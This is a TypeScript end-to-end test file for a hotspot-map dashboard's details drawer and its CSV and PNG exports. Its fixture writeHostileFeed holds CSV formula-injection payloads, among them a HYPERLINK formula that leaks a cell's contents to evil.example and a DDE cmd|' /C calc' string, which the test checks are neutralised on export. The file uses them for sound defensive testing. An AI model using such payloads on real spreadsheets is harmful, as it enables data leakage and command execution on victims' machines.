import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { readStrictCsv, referenceFormulaLike } from '../../src/csv/csvTestSupport.ts';
import { launchChromium } from './support/launchChromium.ts';
import { openBoard, saveScreenshot, type BoardPage } from './support/openBoard.ts';
import { LAPTOP_SCREEN, SCREEN_LOOKS, switchLook } from './support/screenLooks.ts';
import { appDist, serveStatic, type StaticSite } from './support/serveStatic.ts';
import { visitBoard } from './support/visitBoard.ts';
import { fixtureDir } from './support/writeFeedFixtures.ts';

let browser: Browser;
let site: StaticSite;
/** The board page the tests that need no store of their own take turns in (support/visitBoard). */
let shared: BoardPage;

beforeAll(async () => {
  site = await serveStatic(appDist(), '/details/');
  browser = await launchChromium();
  shared = await open('about:blank');
});

afterAll(async () => {
  await shared?.context.close();
  await browser?.close();
  await site?.close();
});

/** How long one test may take on a machine shared with other builds and browsers. */
const PATIENT_MS = 600_000;

const DRAWER = '[data-testid="details-drawer"]';
const ROWS = '[data-testid="details-event"]';

const LAPTOP = { width: 1366, height: 768 };

/**
 * Opens the board in a fresh context like openBoard does, with patient timeouts: these tests share
 * two cores with several builds and browsers, where loading the page alone has taken more than 30 s.
 */
async function open(url: string, viewport = LAPTOP): Promise<BoardPage> {
  const board = await openBoard(browser, 'about:blank', viewport);
  board.page.setDefaultTimeout(120_000);
  board.page.setDefaultNavigationTimeout(180_000);
  await board.page.goto(url);
  return board;
}

/** Waits for an answer of the data worker to be on the page. */
async function waitForAnswer(page: Page): Promise<void> {
  await page.waitForSelector('.board[data-status="ready"]:not([data-answer="none"])', { timeout: 120_000 });
}

/** The drawer's current answer id (changes when a new details answer is shown). */
async function detailsRequest(page: Page): Promise<string> {
  return (await page.getAttribute(DRAWER, 'data-request')) ?? 'none';
}

/** Waits until the drawer shows a details answer newer than `before`. */
async function waitForNewDetails(page: Page, before: string): Promise<void> {
  await page.waitForFunction(
    ([selector, previous]) => {
      const drawer = document.querySelector(selector);
      return drawer !== null && drawer.getAttribute('data-status') === 'ready' && drawer.getAttribute('data-request') !== previous;
    },
    [DRAWER, before] as const,
    { timeout: 60_000 },
  );
}

/**
 * Opens the first hotspot of the ranked list and waits for its details. `dispatch` clicks without
 * waiting for the page to be still: at 3840×2160 software WebGL can take seconds a frame.
 */
async function openFirstHotspot(page: Page, dispatch = false): Promise<string> {
  const cell = (await page.getAttribute('[data-testid="hotspot-item"] >> nth=0', 'data-cell'))!;
  if (dispatch) await page.locator('[data-testid="hotspot-item"]').first().dispatchEvent('click');
  else await page.click('[data-testid="hotspot-item"] >> nth=0');
  await page.waitForSelector(`${DRAWER}[data-kind="hotspot"][data-status="ready"]`, { timeout: 60_000 });
  return cell;
}

/** The rows of the events table as the page shows them. */
async function tableRows(page: Page): Promise<{ source: string; id: string; weight: number; time: number; severity: number; category: string }[]> {
  return page.$$eval(ROWS, (rows) =>
    rows.map((row) => ({
      source: row.getAttribute('data-source')!,
      id: row.getAttribute('data-id')!,
      weight: Number(row.getAttribute('data-weight')),
      time: Number(row.getAttribute('data-time')),
      severity: Number(row.getAttribute('data-severity')),
      category: row.getAttribute('data-category')!,
    })),
  );
}

/** Runs an Export menu item and returns the downloaded file's name and bytes. */
async function exportFrom(page: Page, kind: 'hotspots' | 'events' | 'map'): Promise<{ name: string; bytes: Buffer }> {
  await page.click('[data-testid="export-menu-button"]');
  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), page.click(`[data-testid="export-${kind}"]`)]);
  const path = await download.path();
  await page.waitForSelector(`[data-testid="export-status"][data-state="saved"][data-kind="${kind}"]`);
  return { name: download.suggestedFilename(), bytes: readFileSync(path) };
}

/** A CSV download read back: the BOM checked and dropped, every record. */
function readCsv(bytes: Buffer): string[][] {
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return readStrictCsv(bytes.subarray(3).toString('utf8'));
}

/** Serious and critical axe violations on the page. */
async function seriousViolations(page: Page): Promise<string[]> {
  // The drawer (in the summary panel) and the Export menu; the rest of the board has its own checks.
  const results = await new AxeBuilder({ page }).include('#summary-panel').include('[data-testid="export-menu"]').analyze();
  return results.violations
    .filter((violation) => violation.impact === 'serious' || violation.impact === 'critical')
    .map((violation) => `${violation.id}: ${violation.nodes.map((node) => node.target.join(' ')).join(' | ')}`);
}

describe('the details drawer', () => {
  it('explains a hotspot: non-zero shares, sortable and paged events, an event of its own, Escape and focus', async () => {
    const { page, pageErrors, blockedRequests } = await visitBoard(shared, `${site.appUrl}?v=1&lang=en&theme=dark`, LAPTOP);
    await waitForAnswer(page);
    const cell = await openFirstHotspot(page);

    // Named by place, the cell id only as secondary text; focus moved into the drawer.
    expect(await page.textContent('[data-testid="details-title"]')).toMatch(/^(near|at) /);
    expect(await page.textContent('[data-testid="details-title"]')).not.toContain(cell);
    expect(await page.textContent('[data-testid="details-secondary"]')).toContain(cell);
    expect(await page.evaluate(() => document.activeElement?.closest('[data-testid="details-drawer"]') !== null)).toBe(true);

    // Breakdowns: only non-zero shares, summing to one per breakdown.
    for (const breakdown of ['category', 'agency', 'kind']) {
      const shares = await page.$$eval(`[data-testid="details-breakdown-${breakdown}"] li`, (items) => items.map((item) => Number(item.getAttribute('data-share'))));
      expect(shares.length).toBeGreaterThan(0);
      expect(shares.every((share) => share > 0)).toBe(true);
      expect(shares.reduce((sum, share) => sum + share, 0)).toBeCloseTo(1, 9);
    }
    expect(await page.textContent('[data-testid="details-sparkline-summary"]')).toMatch(/this window adds up to/);
    expect(await page.textContent('[data-testid="details-formula-example"]')).toMatch(/× 2\^\(−[\d.]+ d \/ 7 d\) = /);

    // The table: 20 rows a page, heaviest first; every key (source, id) unique.
    const total = Number(await page.getAttribute('[data-testid="details-events"]', 'data-total'));
    expect(total).toBeGreaterThan(20);
    let rows = await tableRows(page);
    expect(rows).toHaveLength(20);
    expect(rows.every((row, i) => i === 0 || rows[i - 1].weight >= row.weight)).toBe(true);
    expect(new Set(rows.map((row) => `${row.source}\u0000${row.id}`)).size).toBe(rows.length);

    // A header click sorts (time, newest first), a second click reverses it.
    let before = await detailsRequest(page);
    await page.click('[data-testid="details-sort-time"]');
    await waitForNewDetails(page, before);
    expect(await page.getAttribute('th:has([data-testid="details-sort-time"])', 'aria-sort')).toBe('descending');
    rows = await tableRows(page);
    expect(rows.every((row, i) => i === 0 || Math.floor(rows[i - 1].time / 1000) >= Math.floor(row.time / 1000))).toBe(true);
    before = await detailsRequest(page);
    await page.click('[data-testid="details-sort-severity"]');
    await waitForNewDetails(page, before);
    rows = await tableRows(page);
    expect(rows.every((row, i) => i === 0 || rows[i - 1].severity >= row.severity), JSON.stringify([before, await detailsRequest(page), await page.getAttribute('[data-testid="details-events"]', 'data-sort'), rows.map((row) => row.severity)])).toBe(true);
    before = await detailsRequest(page);
    await page.click('[data-testid="details-sort-severity"]');
    await waitForNewDetails(page, before);
    expect(await page.getAttribute('th:has([data-testid="details-sort-severity"])', 'aria-sort')).toBe('ascending');
    const ascending = await tableRows(page);
    expect(ascending.every((row, i) => i === 0 || ascending[i - 1].severity <= row.severity)).toBe(true);

    // Paging: the next page holds other events, and says where it is.
    before = await detailsRequest(page);
    await page.click('[data-testid="details-page-next"]');
    await waitForNewDetails(page, before);
    expect(await page.getAttribute('[data-testid="details-events"]', 'data-page')).toBe('1');
    expect(await page.textContent('[data-testid="details-page-status"]')).toBe(`Page 2 of ${Math.ceil(total / 20)}`);
    const second = await tableRows(page);
    const firstKeys = new Set(ascending.map((row) => `${row.source}\u0000${row.id}`));
    expect(second.some((row) => !firstKeys.has(`${row.source}\u0000${row.id}`))).toBe(true);
    expect(second.every((row) => row.severity >= ascending[ascending.length - 1].severity)).toBe(true);
    await saveScreenshot(page, 'details-1366x768-dark-en-table');

    // A row click opens that event's own details, with its source and id.
    const target = second[0];
    await page.click(`${ROWS} >> nth=0 >> td >> nth=1`);
    await page.waitForSelector(`${DRAWER}[data-kind="event"][data-status="ready"]`);
    await page.waitForSelector(`[data-testid="details-record"][data-source="${target.source}"][data-id="${target.id}"]`);
    expect(await page.textContent('[data-testid="details-title"]')).toBe(`${target.source} · ${target.id}`);
    expect(await page.textContent('[data-testid="details-record"] [data-field="source"]')).toBe(target.source);
    expect(await page.textContent('[data-testid="details-record"] [data-field="id"]')).toBe(target.id);
    expect(await page.textContent('[data-testid="details-record"] [data-field="time"]')).toMatch(/^\d{4}-\d\d-\d\d [0-2]\d:[0-5]\d:[0-5]\d$/);
    expect(await page.textContent('[data-testid="details-formula"]')).toContain('This event:');
    await saveScreenshot(page, 'details-1366x768-dark-en-event');

    // Escape closes; focus goes back to the hotspot that opened the drawer.
    await page.keyboard.press('Escape');
    await page.waitForSelector('.board[data-selection="none"]');
    expect(await page.$(DRAWER)).toBeNull();
    await page.waitForFunction((hex) => document.activeElement?.getAttribute('data-cell') === hex, cell);
    expect(pageErrors).toEqual([]);
    expect(blockedRequests).toEqual([]);
  }, PATIENT_MS);

  it('says plainly when the selected thing is not in the loaded data', async () => {
    const { page, pageErrors } = await visitBoard(shared, `${site.appUrl}?v=1&lang=en&sel=event:NOSUCH:nothing-here`, LAPTOP);
    await waitForAnswer(page);
    await page.waitForSelector(`${DRAWER}[data-status="missing"]`, { timeout: 60_000 });
    expect(await page.textContent('[data-testid="details-missing"]')).toContain('This event is not in the loaded data');
    await page.click('[data-testid="details-close"]');
    await page.waitForSelector('.board[data-selection="none"]');
    expect(pageErrors).toEqual([]);
  }, PATIENT_MS);

  // Each size in both themes and both languages (support/screenLooks), switched with the header's
  // controls; on the laptop, axe checks the drawer (a hotspot's, then an event's) and the Export
  // menu once per theme.
  for (const { size, looks } of SCREEN_LOOKS) {
    const axe = size === LAPTOP_SCREEN;
    it(`fits the summary panel${axe ? ', has no serious or critical axe violations with the drawer open,' : ''} and is saved as screenshots at ${size.name}`, async () => {
      const { page, pageErrors } = await visitBoard(shared, `${site.appUrl}?v=1&lang=${looks[0].locale}&theme=${looks[0].theme}`, size);
      await waitForAnswer(page);
      for (const look of looks) {
        if (look !== looks[0]) await switchLook(page, look);
        if ((await page.getAttribute('.board', 'data-selection')) === 'none') await openFirstHotspot(page, true);
        await page.waitForSelector(`${DRAWER}[data-status="ready"]`);
        // The drawer stays inside the summary panel; the table scrolls inside it.
        const [drawer, panel] = await Promise.all([page.locator(DRAWER).boundingBox(), page.locator('#summary-panel').boundingBox()]);
        expect(drawer!.x).toBeGreaterThanOrEqual(panel!.x);
        expect(drawer!.x + drawer!.width).toBeLessThanOrEqual(panel!.x + panel!.width + 0.5);
        const mapWidth = await page.locator('.map-area').evaluate((element) => element.getBoundingClientRect().width);
        expect(mapWidth / size.width).toBeGreaterThan(0.5);
        await saveScreenshot(page, `details-${size.name}-${look.theme}-${look.locale}`);

        if (axe) {
          expect(await seriousViolations(page), `hotspot, ${look.theme}`).toEqual([]);
          await page.click(`${ROWS} >> nth=0 >> td >> nth=0`);
          await page.waitForSelector(`${DRAWER}[data-kind="event"][data-status="ready"]`);
          expect(await seriousViolations(page), `event, ${look.theme}`).toEqual([]);
          await page.click('[data-testid="export-menu-button"]');
          await page.waitForSelector('[data-testid="export-hotspots"]');
          expect(await seriousViolations(page), `export menu, ${look.theme}`).toEqual([]);
          // Menu and drawer closed: the next look opens the hotspot again.
          await page.keyboard.press('Escape');
          await page.waitForSelector('[data-testid="export-hotspots"]', { state: 'detached' });
          await page.click('[data-testid="details-close"]');
          await page.waitForSelector('.board[data-selection="none"]');
        }
      }
      expect(pageErrors).toEqual([]);
    }, PATIENT_MS);
  }
});

/** A feed of 30 events at one spot near Lo Wu whose ids and descriptions try formula injection; two agencies share ids. */
function writeHostileFeed(dir: string, now: number): string {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click")',
    "+1+cmd|' /C calc'!A0",
    '@SUM(1+9)',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
    'say "hi", then\nleave',
    '走私香煙，羅湖口岸查獲 "大量"',
    '=1;=2',
    'plain text',
  ];
  const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const lines = ['id,source,time,lon,lat,category,severity,grading,description'];
  for (let k = 0; k < 30; k++) {
    const source = k % 2 === 0 ? 'HKCED' : 'GACC-GD';
    const id = k < 10 ? hostile[k].replace(/[\r\n\t]/g, ' ').trim() || `id-${k}` : `X-${Math.floor(k / 2)}`;
    const time = new Date(now - (k + 1) * 3_600_000).toISOString();
    lines.push([quote(id), source, time, '114.1131', '22.5291', 'tobacco', String(1 + (k % 5)), 'B2', quote(hostile[k % hostile.length])].join(','));
  }
  const path = join(dir, 'hostile-feed.csv');
  writeFileSync(path, lines.join('\r\n') + '\r\n');
  return path;
}

describe('the exports', () => {
  it('downloads the selection’s events as CSV: every event, BOM, header in the language, formula text neutralised', async () => {
    const feed = writeHostileFeed(fixtureDir(), Date.now());
    const { context, page, pageErrors } = await open(`${site.appUrl}?v=1&lang=zh-Hant&theme=dark`);
    try {
      await waitForAnswer(page);
      await page.click('[data-testid="tool-data"]');
      await page.setInputFiles('[data-testid="import-file-input"]', [feed]);
      await page.waitForFunction(() => document.querySelector('.board')?.getAttribute('data-demo') === 'false', undefined, { timeout: 120_000 });
      await page.waitForSelector('[data-testid="hotspot-item"]');
      await openFirstHotspot(page);
      const total = Number(await page.getAttribute('[data-testid="details-events"]', 'data-total'));
      expect(total).toBe(30);
      // Ids repeat across the two agencies: the table keys rows by (source, id), so both show.
      expect(await page.$$eval(ROWS, (rows) => rows.length)).toBe(20);

      const [download] = await Promise.all([page.waitForEvent('download'), page.click('[data-testid="details-export-events"]')]);
      const name = download.suggestedFilename();
      expect(name).toMatch(/^tidegate-events-hotspot-[0-9a-f]{15}-\d{4}-\d\d-\d\dT\d{4}\+0800\.csv$/);
      const [header, ...rows] = readCsv(readFileSync(await download.path()));
      expect(header.slice(0, 3)).toEqual(['來源機構', '記錄編號', '時間（UTC+8）']);
      expect(rows).toHaveLength(total);
      const textColumns = [0, 1, 3, 4, 14];
      for (const row of rows) for (const column of textColumns) expect(referenceFormulaLike(row[column]), row[column]).toBe(false);
      const descriptions = new Set(rows.map((row) => row[14]));
      expect(descriptions).toContain(`'=HYPERLINK("http://evil.example/?leak="&A1,"Error: click")`);
      expect(descriptions).toContain("'+1+cmd|' /C calc'!A0");
      expect(descriptions).toContain("'@SUM(1+9)");
      // The feed reader trims a description's leading blanks, so `\t=1+1` is stored as `=1+1`.
      expect(descriptions).toContain("'=1+1");
      expect(descriptions).toContain('say "hi", then\nleave');
      expect(descriptions).toContain('走私香煙，羅湖口岸查獲 "大量"');
      expect(rows.map((row) => row[1])).toContain("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click\")");
      expect(new Set(rows.map((row) => `${row[0]}\u0000${row[1]}`)).size).toBe(total);
      expect(rows.every((row) => row[3] === '香煙')).toBe(true);
      expect(pageErrors).toEqual([]);
    } finally {
      await context.close();
    }
  }, PATIENT_MS);

  it('downloads the hotspot table as CSV and the map as a PNG with its caption, from the keyboard', async () => {
    const { page, pageErrors } = await visitBoard(shared, `${site.appUrl}?v=1&lang=en&theme=light`, LAPTOP);
    await waitForAnswer(page);
    const hotspotTotal = Number(((await page.textContent('#hotspots-heading .count')) ?? '').replace(/\D/g, ''));
    expect(hotspotTotal).toBeGreaterThan(25);
    const firstCells = await page.$$eval('[data-testid="hotspot-item"]', (items) => items.map((item) => item.getAttribute('data-cell')));

    const hotspots = await exportFrom(page, 'hotspots');
    expect(hotspots.name).toMatch(/^tidegate-hotspots-\d{4}-\d\d-\d\dT\d{4}\+0800\.csv$/);
    const [header, ...rows] = readCsv(hotspots.bytes);
    expect(header).toEqual([
      'Rank',
      'H3 cell',
      'Nearest site',
      'Nearest site id',
      'Distance to nearest site (km)',
      'Score',
      'Events',
      'Previous-window score',
      'Trend (score ÷ previous)',
      'Centre latitude',
      'Centre longitude',
    ]);
    expect(rows).toHaveLength(hotspotTotal);
    expect(rows.slice(0, firstCells.length).map((row) => row[1])).toEqual(firstCells);
    expect(rows.every((row, i) => row[0] === String(i + 1) && Number(row[5]) > 0 && row[2] !== '')).toBe(true);
    expect(rows.every((row, i) => i === 0 || Number(rows[i - 1][5]) >= Number(row[5]))).toBe(true);

    // The menu by keyboard: open with Enter, move with the arrows, choose with Enter.
    await page.waitForSelector('[data-map-state="ready"]', { timeout: 120_000 });
    await page.focus('[data-testid="export-menu-button"]');
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => document.activeElement?.getAttribute('data-testid') === 'export-hotspots');
    await page.keyboard.press('ArrowDown');
    await page.waitForFunction(() => document.activeElement?.getAttribute('data-testid') === 'export-map');
    const [download] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), page.keyboard.press('Enter')]);
    await page.waitForSelector('[data-testid="export-status"][data-state="saved"][data-kind="map"]');
    expect(download.suggestedFilename()).toMatch(/^tidegate-map-\d{4}-\d\d-\d\dT\d{4}\+0800\.png$/);
    const png = readFileSync(await download.path());
    expect([...png.subarray(1, 4)]).toEqual([0x50, 0x4e, 0x47]);
    const width = png.readUInt32BE(16);
    const height = png.readUInt32BE(20);
    const mapBox = (await page.locator('.map-area').boundingBox())!;
    expect(width).toBe(Math.round(mapBox.width));
    expect(height).toBeGreaterThan(Math.round(mapBox.height));
    // Not blank: the map part and the caption band each hold many colours.
    const colours = await page.evaluate(async (base64) => {
      const image = new Image();
      image.src = `data:image/png;base64,${base64}`;
      await image.decode();
      const canvas = document.createElement('canvas');
      canvas.width = image.width;
      canvas.height = image.height;
      const context = canvas.getContext('2d')!;
      context.drawImage(image, 0, 0);
      const count = (y0: number, y1: number) => {
        const seen = new Set<number>();
        const data = context.getImageData(0, y0, image.width, y1 - y0).data;
        for (let i = 0; i < data.length; i += 4 * 7) seen.add((data[i] << 16) | (data[i + 1] << 8) | data[i + 2]);
        return seen.size;
      };
      return { map: count(0, Math.floor(image.height * 0.6)), band: count(image.height - 60, image.height) };
    }, png.toString('base64'));
    expect(colours.map).toBeGreaterThan(50);
    expect(colours.band).toBeGreaterThan(5);
    writeFileSync(join('tests/e2e/screenshots', 'details-export-map.png'), png);
    expect(pageErrors).toEqual([]);
  }, PATIENT_MS);
});
